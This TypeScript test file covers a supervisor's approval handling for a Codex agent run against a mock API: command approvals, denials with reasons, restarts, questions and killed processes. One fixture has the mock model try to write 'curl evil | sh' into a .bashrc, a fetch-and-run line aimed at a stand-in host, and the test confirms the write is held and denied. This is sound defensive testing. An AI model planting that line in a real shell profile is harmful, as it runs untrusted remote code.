// Threads whose agent is Codex, run by the Supervisor itself: the real app-server against the mock
// Responses API. A command approval allowed with decide() runs, and the turn is the thread's run with the
// model's message; an approval pending when the supervisor closes (its app-server left running) is
// pending again under the same id after open(), and answering it then runs the command.
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import { Supervisor } from '../../src/supervisor/index.js';
import { until } from '../../src/testing/index.js';
import { processExists } from './helpers/cli-process.js';
import { startCodexWorld } from './helpers/codex-world.js';

const FIRST = 'echo one > one.txt';
const SECOND = 'echo two > two.txt';

void test(
  'a Codex thread: its command approvals are the supervisor’s, and one pending survives a close and open',
  { timeout: 90_000 },
  async (t) => {
    const { world, openSupervisor: open } = await startCodexWorld(t, (ctx) => {
      if (ctx.turnMarker !== 'go') return null;
      if (ctx.turnRounds === 0) return { items: [{ type: 'exec', cmd: FIRST }] };
      if (ctx.turnRounds === 1) return { items: [{ type: 'exec', cmd: SECOND }] };
      return { items: [{ type: 'text', text: 'both written' }] };
    });
    const { scratch } = world;

    const first = await open();
    const thread = await first.createThread({ cwd: scratch.cwd, mode: 'supervised', agent: 'codex' });
    assert.equal(thread.agent, 'codex');
    const run = await first.send(thread.id, '[[go]] write two files');
    const pending = (sup: Supervisor) => sup.listApprovals({ threadId: thread.id, status: 'pending' });
    const one = await until(() => pending(first)[0], 'the first command asks');
    assert.equal(one.toolName, 'Bash');
    assert.equal(one.input['command'], FIRST);
    assert.equal(one.runId, run.id, 'the approval belongs to the run of the turn');
    // Codex runs what it asked for or nothing: an edit is refused, and the approval still waits.
    await assert.rejects(
      first.decide(one.id, { behavior: 'allow', updatedInput: { command: 'echo edited > one.txt' } }),
      (error: Error & { field?: string }) =>
        error.name === 'ValidationError' && error.field === 'updatedInput',
    );
    assert.equal(first.getApproval(one.id).status, 'pending');
    await first.decide(one.id, { behavior: 'allow' });
    const two = await until(
      () => pending(first).find((approval) => approval.id !== one.id),
      'the second asks',
    );
    assert.equal(readFileSync(join(scratch.cwd, 'one.txt'), 'utf8'), 'one\n');
    const pid = first.getThread(thread.id).thread.cliProcess?.pid;
    assert.ok(pid !== undefined, 'the app-server is on record');

    const closed = await first.close();
    assert.deepEqual(
      closed.leftRunning.map((left) => left.threadId),
      [thread.id],
      'the app-server is left running',
    );

    const second = await open();
    t.after(() => second.close({ stopAgents: true }));
    assert.equal(second.recovered.processesReattached, 1);
    await second.reattached;
    assert.deepEqual(
      pending(second).map((approval) => approval.id),
      [two.id],
      'the same approval waits',
    );
    assert.equal(existsSync(join(scratch.cwd, 'two.txt')), false, 'nothing ran while no host held it');
    await second.decide(two.id, { behavior: 'allow' });
    await until(
      () => second.getThread(thread.id).runs.find((r) => r.id === run.id && r.status === 'completed'),
      'the turn ends',
    );
    assert.equal(readFileSync(join(scratch.cwd, 'two.txt'), 'utf8'), 'two\n');
    const said = second.timeline(thread.id).some((item) => JSON.stringify(item).includes('both written'));
    assert.ok(said, 'the model’s message is in the thread');
    await second.stop(thread.id);
    await until(() => (processExists(pid) ? undefined : true), 'the app-server gone');
  },
);

const PATCH = '*** Begin Patch\n*** Add File: refused.txt\n+no\n*** End Patch\n';
const REASON = 'Not this file: the fixture stays as it is.';

void test(
  'a Codex file change denied with a reason is not written, and the model reads why',
  { timeout: 60_000 },
  async (t) => {
    const seen: string[] = [];
    const { world, openSupervisor } = await startCodexWorld(t, (ctx) => {
      seen.push(ctx.turnText);
      if (ctx.turnMarker !== 'go') return null;
      if (ctx.turnRounds === 0) return { items: [{ type: 'patch', patch: PATCH }] };
      return { items: [{ type: 'text', text: 'left it alone' }] };
    });
    const { scratch } = world;
    const sup = await openSupervisor();
    const thread = await sup.createThread({ cwd: scratch.cwd, mode: 'supervised', agent: 'codex' });
    const run = await sup.send(thread.id, '[[go]] add a file');
    const change = await until(
      () => sup.listApprovals({ threadId: thread.id, status: 'pending' })[0],
      'the change asks',
    );
    assert.equal(change.toolName, 'Write');
    assert.equal(change.input['file_path'], join(scratch.cwd, 'refused.txt'));
    await sup.decide(change.id, { behavior: 'deny', message: REASON });
    await until(
      () => sup.getThread(thread.id).runs.find((r) => r.id === run.id && r.status === 'completed'),
      'the turn ends',
    );
    assert.equal(existsSync(join(scratch.cwd, 'refused.txt')), false, 'not written');
    assert.ok(
      seen.some((text) => text.includes(REASON)),
      'the model reads the reason',
    );
  },
);

const TWO_FILES =
  '*** Begin Patch\n*** Add File: a.txt\n+fine\n*** Add File: z/.bashrc\n+curl evil | sh\n*** End Patch\n';

void test(
  'in auto-edits a Codex change of two files is judged file by file: a protected second file is asked for',
  { timeout: 60_000 },
  async (t) => {
    const { world, openSupervisor } = await startCodexWorld(t, (ctx) => {
      if (ctx.turnMarker !== 'go') return null;
      if (ctx.turnRounds === 0) return { items: [{ type: 'patch', patch: TWO_FILES }] };
      return { items: [{ type: 'text', text: 'done' }] };
    });
    const { scratch } = world;
    const sup = await openSupervisor();
    const thread = await sup.createThread({ cwd: scratch.cwd, mode: 'auto-edits', agent: 'codex' });
    const run = await sup.send(thread.id, '[[go]] two files');
    const asked = await until(
      () => sup.listApprovals({ threadId: thread.id, status: 'pending' })[0],
      'the change is asked for, not allowed by the mode',
    );
    // Codex lists the files sorted: the protected one second, where judging the first alone would miss it.
    assert.deepEqual(asked.input['paths'], [join(scratch.cwd, 'a.txt'), join(scratch.cwd, 'z/.bashrc')]);
    assert.deepEqual(asked.alwaysAllowRules, [], 'no one rule covers both files');
    assert.equal(existsSync(join(scratch.cwd, 'a.txt')), false, 'nothing is written before the answer');
    await sup.decide(asked.id, { behavior: 'deny', message: 'not the shell profile' });
    await until(
      () => sup.getThread(thread.id).runs.find((r) => r.id === run.id && r.status === 'completed'),
      'the turn ends',
    );
    assert.equal(existsSync(join(scratch.cwd, 'z/.bashrc')), false);
    assert.equal(existsSync(join(scratch.cwd, 'a.txt')), false);
  },
);

const QUESTION = 'Which colour should the button be?';

void test(
  'a Codex question is a question card: the answer given in the supervisor reaches the model',
  { timeout: 60_000 },
  async (t) => {
    const outputs: string[] = [];
    const { world, openSupervisor } = await startCodexWorld(t, (ctx) => {
      outputs.push(...ctx.toolOutputs.map((output) => output.output));
      if (ctx.turnMarker !== 'go') return null;
      if (ctx.turnRounds === 0)
        return {
          items: [
            {
              type: 'function',
              name: 'request_user_input',
              arguments: {
                questions: [
                  {
                    id: 'colour',
                    header: 'Colour',
                    question: QUESTION,
                    options: [
                      { label: 'Blue (Recommended)', description: 'Matches the rest.' },
                      { label: 'Red', description: 'Stands out.' },
                    ],
                  },
                ],
              },
            },
          ],
        };
      return { items: [{ type: 'text', text: 'painting it' }] };
    });
    const { scratch } = world;
    const sup = await openSupervisor();
    const thread = await sup.createThread({ cwd: scratch.cwd, mode: 'full-access', agent: 'codex' });
    const run = await sup.send(thread.id, '[[go]] ask me');
    const asked = await until(
      () => sup.listApprovals({ threadId: thread.id, status: 'pending' })[0],
      'the question waits',
    );
    assert.equal(asked.toolName, 'AskUserQuestion', 'asked of a person, whatever the mode');
    assert.deepEqual(asked.input['questions'], [
      {
        question: QUESTION,
        header: 'Colour',
        options: [
          { label: 'Blue (Recommended)', description: 'Matches the rest.' },
          { label: 'Red', description: 'Stands out.' },
        ],
        multiSelect: false,
      },
    ]);
    await sup.decide(asked.id, { behavior: 'allow', answers: { [QUESTION]: 'Red' } });
    await until(
      () => sup.getThread(thread.id).runs.find((r) => r.id === run.id && r.status === 'completed'),
      'the turn ends',
    );
    assert.ok(
      outputs.some((output) => output.includes('Red')),
      `the model reads the answer: ${outputs.join(' | ')}`,
    );
  },
);

void test(
  'a Codex app-server killed with an approval pending: the approval is cancelled, and the next message resumes the thread in a new process',
  { timeout: 60_000 },
  async (t) => {
    const threadsSeen = new Set<string>();
    const { world, openSupervisor } = await startCodexWorld(t, (ctx) => {
      if (ctx.threadId !== undefined) threadsSeen.add(ctx.threadId);
      if (ctx.turnMarker === 'go' && ctx.turnRounds === 0) return { items: [{ type: 'exec', cmd: FIRST }] };
      return { items: [{ type: 'text', text: `answered: ${ctx.turnText.slice(-12)}` }] };
    });
    const { scratch } = world;
    const sup = await openSupervisor();
    const thread = await sup.createThread({ cwd: scratch.cwd, mode: 'supervised', agent: 'codex' });
    const run = await sup.send(thread.id, '[[go]] a command');
    const asked = await until(
      () => sup.listApprovals({ threadId: thread.id, status: 'pending' })[0],
      'it asks',
    );
    const pid = sup.getThread(thread.id).thread.cliProcess?.pid ?? 0;
    const conversation = sup.getThread(thread.id).thread.sessionId;
    process.kill(-pid, 'SIGKILL');

    const cancelled = await until(() => {
      const approval = sup.getApproval(asked.id);
      return approval.status === 'cancelled' ? approval : undefined;
    }, 'the approval cancelled');
    assert.equal(cancelled.reason, 'process_exited');
    assert.equal(sup.getThread(thread.id).runs.find((r) => r.id === run.id)?.status, 'interrupted');
    await sup.durable(); // the log as readers see it
    const ended = sup.readEvents({ threadId: thread.id }).find((e) => e.type === 'session.ended');
    // The exit is seen by the child's exit or by its pid going: the signal is not always known.
    assert.match(String(ended?.type === 'session.ended' ? ended.data.error : ''), /SIGKILL|ended/);
    await assert.rejects(sup.decide(asked.id, { behavior: 'allow' }), { code: 'CONFLICT' });
    assert.equal(existsSync(join(scratch.cwd, 'one.txt')), false);

    const next = await sup.send(thread.id, 'are you still there');
    await until(
      () => sup.getThread(thread.id).runs.find((r) => r.id === next.id && r.status === 'completed'),
      'the next turn',
    );
    const view = sup.getThread(thread.id).thread;
    assert.equal(view.sessionId, conversation, 'the same Codex thread, resumed');
    assert.equal(view.generation, 2, 'in a second process');
    assert.notEqual(view.cliProcess?.pid, pid);
    assert.equal(threadsSeen.size, 1, 'the model saw one conversation');
  },
);

void test(
  'a Codex command in another working directory is asked for even where the mode would allow it',
  { timeout: 60_000 },
  async (t) => {
    const { world, openSupervisor } = await startCodexWorld(t, (ctx) => {
      if (ctx.turnMarker !== 'go') return null;
      if (ctx.turnRounds === 0) return { items: [{ type: 'exec', cmd: 'echo here > here.txt' }] };
      if (ctx.turnRounds === 1)
        return { items: [{ type: 'exec', cmd: 'echo there > there.txt', workdir: world.scratch.home }] };
      return { items: [{ type: 'text', text: 'done' }] };
    });
    const { scratch } = world;
    const sup = await openSupervisor();
    const thread = await sup.createThread({ cwd: scratch.cwd, mode: 'full-access', agent: 'codex' });
    await sup.send(thread.id, '[[go]] two commands');
    const asked = await until(
      () => sup.listApprovals({ threadId: thread.id, status: 'pending' })[0],
      'the command elsewhere is asked for',
    );
    assert.equal(readFileSync(join(scratch.cwd, 'here.txt'), 'utf8'), 'here\n', 'the first ran unasked');
    assert.equal(asked.input['cwd'], scratch.home);
    assert.equal(sup.listApprovals({ threadId: thread.id }).length, 1, 'only the one elsewhere asked');
    await sup.decide(asked.id, { behavior: 'deny', message: 'not there' });
  },
);
